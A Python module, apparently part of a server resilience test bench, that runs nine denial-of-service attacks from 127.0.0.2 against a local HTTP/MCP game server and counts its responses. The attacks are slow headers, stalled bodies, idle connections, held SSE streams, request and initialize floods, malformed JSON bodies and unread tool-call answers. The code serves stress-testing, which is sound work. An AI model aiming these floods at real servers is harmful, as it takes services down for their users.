"""The attacks, each from one address (ATTACKER) against a real server: connections held, stalled or idle,
streams and sessions piled up, floods of requests, bodies no store can keep, answers never read."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Awaitable, Callable

from bench.raw_http import INITIALIZE, INITIALIZE_REQUEST, http_request, open_from, open_sse_stream
from bench.tally import Tally

ATTACKER = "127.0.0.2"


async def connect(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await open_from(port, ATTACKER)


async def exchange(port: int, request: bytes, tally: Tally) -> None:
    """Send `request` on a new connection and count the status of the answer (or that there was none)."""
    try:
        reader, writer = await connect(port)
    except OSError:
        tally.answers["refused connection"] += 1
        return
    try:
        writer.write(request)
        line = await asyncio.wait_for(reader.readline(), 10)
        tally.answers[line.split(b" ")[1].decode() if line.count(b" ") >= 2 else "closed"] += 1
    except (OSError, TimeoutError):
        tally.answers["closed"] += 1
    finally:
        writer.close()


async def hold_many(
    port: int, count: int, opening: bytes, stop: asyncio.Event, tally: Tally, drip: bytes = b""
) -> None:
    """Open `count` connections, send `opening` on each, then hold them (sending `drip` each second) until `stop`;
    count how the server ended them."""

    async def hold() -> None:
        try:
            reader, writer = await connect(port)
        except OSError:
            tally.answers["refused connection"] += 1
            return
        answer = "nothing"  # the status of the server's answer, once there is one
        try:
            writer.write(opening)
            while not stop.is_set():
                with contextlib.suppress(TimeoutError):
                    data = await asyncio.wait_for(reader.read(4096), 1)
                    if not data:
                        tally.answers[f"closed by server after {answer}"] += 1
                        return
                    if data.startswith(b"HTTP/1.1 "):
                        answer = data.split(b" ")[1].decode()
                        tally.answers[answer] += 1
                    if data.endswith(b"0\r\n\r\n") and b"transfer-encoding: chunked" not in data.lower():
                        tally.answers[f"ended by server after {answer}"] += 1  # a streamed answer, ended
                        return
                if drip:
                    writer.write(drip)
            tally.answers[f"held to the end after {answer}"] += 1
        except OSError:
            tally.answers[f"closed by server after {answer}"] += 1
        finally:
            writer.close()

    await asyncio.gather(*(hold() for _ in range(count)))


async def flood(port: int, stop: asyncio.Event, tally: Tally, request: Callable[[], bytes], workers: int = 64) -> None:
    """Send `request()` over and over on `workers` keep-alive connections until `stop`, reading each answer."""

    async def worker() -> None:
        while not stop.is_set():
            try:
                reader, writer = await connect(port)
            except OSError:
                tally.answers["refused connection"] += 1
                await asyncio.sleep(0.1)
                continue
            try:
                while not stop.is_set():
                    writer.write(request())
                    status = (await asyncio.wait_for(reader.readline(), 10)).split(b" ")
                    if len(status) < 2:
                        tally.answers["closed"] += 1
                        break
                    tally.answers[status[1].decode()] += 1
                    length, chunked = 0, False
                    while (line := await reader.readline()) not in (b"\r\n", b""):
                        name, _, value = line.decode("latin-1").partition(":")
                        if name.lower() == "content-length":
                            length = int(value)
                        chunked |= name.lower() == "transfer-encoding"
                    if chunked:  # an event-stream answer to an initialize: drop the connection instead of reading on
                        break
                    await reader.readexactly(length)
            except (OSError, TimeoutError, asyncio.IncompleteReadError, ValueError):
                tally.answers["closed"] += 1
            finally:
                writer.close()

    await asyncio.gather(*(worker() for _ in range(workers)))


Attack = Callable[[int, dict, asyncio.Event, Tally], Awaitable[None]]


async def slow_headers(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """Hundreds of requests whose headers never end: a byte a second."""
    await hold_many(port, 200, b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n", stop, tally, drip=b"X")


async def stalled_bodies(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """Hundreds of moves that send their headers and then stall their body."""
    opening = http_request("POST", f"/rooms/{target['room_id']}/move", extra="Content-Length: 100\r\n") + b'{"posi'
    await hold_many(port, 200, opening, stop, tally)


async def idle_connections(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """A thousand connections that never say anything."""
    await hold_many(port, 1000, b"", stop, tally)


async def viewers(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """A thousand live-page streams of one game, held open."""
    opening = http_request("GET", target["links"]["watch"].removeprefix(target["base"]) + "/events")
    await hold_many(port, 1000, opening, stop, tally)


async def sse_sessions(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """Hundreds of MCP SSE streams, held open."""
    await hold_many(port, 300, http_request("GET", "/sse"), stop, tally)


async def initialize_flood(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """Thousands of streamable-HTTP `initialize` calls, each a new session if the server let it be."""
    await flood(port, stop, tally, lambda: INITIALIZE_REQUEST, workers=16)


async def request_flood(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """Reads of a room as fast as 64 keep-alive connections go."""
    request = http_request("GET", f"/rooms/{target['room_id']}")
    await flood(port, stop, tally, lambda: request)


async def bad_bodies(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """Chat lines and JSON-RPC calls the server cannot store or parse: lone surrogates, deep nesting, huge numbers,
    and chunked bodies past the limit."""
    bodies = [
        http_request("POST", f"/rooms/{target['room_id']}/chat", b'{"message": "\\ud800"}'),
        http_request("POST", f"/rooms/{target['room_id']}/chat", b"[" * 5000 + b"]" * 5000),
        http_request("POST", f"/rooms/{target['room_id']}/move", b'{"position": 1' + b"0" * 5000 + b"}"),
        http_request(
            "POST", "/mcp", b'{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"x": "\\udc00"}}'
        ),
        http_request("POST", "/rooms", extra="Transfer-Encoding: chunked\r\n") + b"10001\r\n" + b"x" * 65537 + b"\r\n",
    ]
    turn = iter(range(10**9))
    await flood(port, stop, tally, lambda: bodies[next(turn) % len(bodies)], workers=16)


async def unread_calls(port: int, target: dict, stop: asyncio.Event, tally: Tally) -> None:
    """Tool calls posted as fast as they go to one SSE session whose stream is never read: their answers would pile
    up in the server."""
    writer, path = await open_sse_stream(port, ATTACKER)
    ready = [INITIALIZE, {"jsonrpc": "2.0", "method": "notifications/initialized"}]
    for message in ready:
        await exchange(port, http_request("POST", path, json.dumps(message).encode()), Tally())
    numbers = iter(range(2, 10**9))
    arguments = {"room_id": target["room_id"]}

    def call() -> bytes:
        params = {"name": "get_room_state", "arguments": arguments}
        return http_request(
            "POST",
            path,
            json.dumps({"jsonrpc": "2.0", "id": next(numbers), "method": "tools/call", "params": params}).encode(),
        )

    try:
        await flood(port, stop, tally, call, workers=8)  # the stream itself is left unread all along
    finally:
        writer.close()


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        slow_headers,
        stalled_bodies,
        idle_connections,
        viewers,
        sse_sessions,
        initialize_flood,
        request_flood,
        bad_bodies,
        unread_calls,
    )
}
